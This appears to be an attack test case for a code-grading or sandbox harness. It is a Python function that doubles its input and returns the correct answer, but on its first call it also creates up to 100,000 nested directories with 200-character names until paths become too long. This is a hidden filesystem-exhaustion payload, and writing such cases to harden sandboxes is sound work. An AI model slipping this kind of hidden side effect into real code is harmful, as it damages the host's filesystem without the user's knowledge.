"""Makes folders in folders until paths are too long."""

# /// attack
# verdicts = { double = "PASSED" }
# points = 3
# ///

import os


def double(x, tried=[]):
    try:
        for _ in range(100_000 if not tried else 0):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    except OSError:
        pass
    tried.append(True)
    return x * 2
